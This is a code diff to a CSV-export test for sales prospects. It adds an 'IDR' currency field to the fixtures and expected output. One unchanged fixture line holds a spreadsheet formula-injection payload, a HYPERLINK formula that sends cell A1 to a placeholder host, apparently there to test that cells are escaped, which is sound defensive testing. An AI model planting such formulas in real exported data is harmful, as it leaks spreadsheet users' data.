@@ -94,7 +94,7 @@ const byHeader = (t: CsvTable, row: number) => {
 
 describe('prospects CSV', () => {
   const people = [
-    prospect(1, { dealValue: 25_000_000, emails: ['orang1@contoh.id', 'kerja1@contoh.id'] }),
+    prospect(1, { dealValue: 25_000_000, currency: 'IDR', emails: ['orang1@contoh.id', 'kerja1@contoh.id'] }),
     prospect(2, {
       name: '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
       headline: '+62 812 0000 0000',
@@ -124,6 +124,7 @@ describe('prospects CSV', () => {
       Temperature: 'cold',
       Stage: 'Qualification',
       'Deal value': '25000000',
+      Currency: 'IDR',
       Score: '35',
       'Last touch': '2026-11-02T04:00:00.000Z',
       Touches: '2',
@@ -170,6 +171,7 @@ describe('prospects CSV', () => {
         source: p.source,
         stageKey: stages.find((s) => s.id === p.stageId)!.key,
         dealValue: p.dealValue ?? null,
+        currency: p.currency ?? null,
         stageAt: null,
         connectedAt: null,
       })),
